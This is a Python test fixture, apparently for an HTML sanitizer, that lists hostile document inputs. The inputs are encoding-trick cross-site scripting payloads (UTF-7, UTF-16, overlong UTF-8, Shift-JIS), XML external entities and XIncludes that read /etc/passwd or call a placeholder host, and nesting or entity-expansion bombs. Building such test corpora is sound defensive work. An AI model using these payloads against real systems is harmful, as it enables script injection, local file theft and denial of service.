"""Whole files: encodings, XML declarations, and shapes without measure."""

from __future__ import annotations

from tests.hostile.payload import payloads

_SCRIPT = (
    "<html><body><p>Words of a filing.</p><script>«run»</script><img src=x onerror='«run»'></body></html>"
)

ENCODINGS = payloads(
    "encoding",
    [
        (
            "UTF-7 by a meta element",
            b"<html><head><meta charset=utf-7></head><body><p>Words of a filing.</p>"
            b"+ADw-script+AD4-1+ADw-/script+AD4-</body></html>",
        ),
        (
            "UTF-16 with its mark",
            b"\xff\xfe"
            + "<html><body><p>Words of a filing.</p><img src=x onerror='top.bitten.add(0)'></body></html>".encode(
                "utf-16-le"
            ),
        ),
        (
            "UTF-16 the other way round",
            b"\xfe\xff"
            + "<html><body><p>Words of a filing.</p><script>top.bitten.add(0)</script></body></html>".encode(
                "utf-16-be"
            ),
        ),
        ("UTF-8 with its mark", b"\xef\xbb\xbf" + _SCRIPT.encode()),
        (
            "another encoding inside the file",
            b"<html><head><meta charset=iso-2022-jp></head><body><p>Words of a filing.</p><img "
            b"alt='\x1b$@' title='\x1b(B' src=x onerror='\xc2\xabrun\xc2\xbb'></body></html>",
        ),
        (
            "Shift-JIS that eats a quote",
            b"<html><head><meta charset=shift_jis></head><body><p>Words of a filing.</p><p title='\x83'>"
            b"a</p><img src=x title='\x81' onerror='\xc2\xabrun\xc2\xbb'></body></html>",
        ),
        (
            "overlong UTF-8",
            b"<html><body><p>Words of a filing.</p>"
            b"\xc0\xbcscript\xc0\xbe1\xc0\xbc/script\xc0\xbe\xe0\x80\xbcimg src=x "
            b"onerror=1\xe0\x80\xbe</body></html>",
        ),
        ("letters of full width", "<p>＜script＞«run»＜/script＞</p><ſcript>«run»</ſcript>"),
        (
            "a declaration of another encoding",
            b"<?xml version='1.0' encoding='utf-7'?><html><body><p>Words of a filing.</p><script>"
            b"\xc2\xabrun\xc2\xbb</script></body></html>",
        ),
        (
            "an encoding of mainframes",
            b"<?xml version='1.0' encoding='cp037'?><html><body><p>Words of a filing.</p><script>"
            b"\xc2\xabrun\xc2\xbb</script></body></html>",
        ),
        (
            "an XML declaration and a style sheet",
            "<?xml version='1.0'?><?xml-stylesheet href='http://«host»' type='text/xsl'?>" + _SCRIPT,
        ),
        (
            "an entity of another server",
            "<?xml version='1.0'?><!DOCTYPE html [<!ENTITY x SYSTEM 'http://«host»'><!ENTITY % y SYSTEM "
            "'http://«host»'> %y;]><html><body><p>Words of a filing. &x;</p></body></html>",
        ),
        (
            "an entity of this machine",
            "<?xml version='1.0'?><!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><html><body>"
            "<p>Words of a filing. &x;</p></body></html>",
        ),
        (
            "a type of document elsewhere",
            "<!DOCTYPE html PUBLIC 'x' 'http://«host»'><html><body><p>Words of a filing.</p></body></html>",
        ),
        (
            "an inclusion",
            "<html xmlns:xi='http://www.w3.org/2001/XInclude'><body><p>Words of a filing.</p><xi:include "
            "href='http://«host»'/><xi:include href='file:///etc/passwd' parse='text'/></body></html>",
        ),
        (
            "a mail with parts",
            "<html><body><p>Words of a filing.</p><img src='cid:x'><img src='mhtml:http://«host»!x'>"
            "</body></html>",
        ),
    ],
)

SHAPES = payloads(
    "shape",
    [
        ("nesting without end", "<div>" * 100_000 + "<script>«run»</script>"),
        ("inline nesting without end", "<b><i>" * 20_000 + "<img src=x onerror='«run»'>"),
        ("tables in tables", "<table><tr><td>" * 3_000 + "<img src=x onerror='«run»'>"),
        ("drawings in formulas", "<svg><desc><math><mtext>" * 500 + "<img src=x onerror='«run»'>"),
        (
            "attributes without end",
            "<p " + " ".join(f"a{number}=1" for number in range(50_000)) + " onclick='«run»'>Words</p>",
        ),
        ("an attribute of a megabyte", "<p title='" + "x" * 1_000_000 + "' onclick='«run»'>Words</p>"),
        ("references without end", "<p>" + "&amp;" * 10_000 + "<img src=x onerror='«run»'></p>"),
        (
            "formatting that is repeated",
            "<p>" + "<font size=1>" * 300 + "<p>x" * 50 + "<img src=x onerror='«run»'>",
        ),
        (
            "entities that multiply",
            "<!DOCTYPE html [<!ENTITY a 'xxxxxxxxxx'><!ENTITY b '&a;&a;&a;&a;&a;&a;&a;&a;'><!ENTITY c "
            "'&b;&b;&b;&b;&b;&b;&b;&b;'>]><html><body><p>Words of a filing. &c;&c;</p></body></html>",
        ),
        (
            "cells without measure",
            "<table><tr><td colspan=99999999 rowspan=99999999>1</td><td>2</td></tr></table><ol "
            "start=99999999999999><li value=-9e99>Words</ol>",
        ),
    ],
)
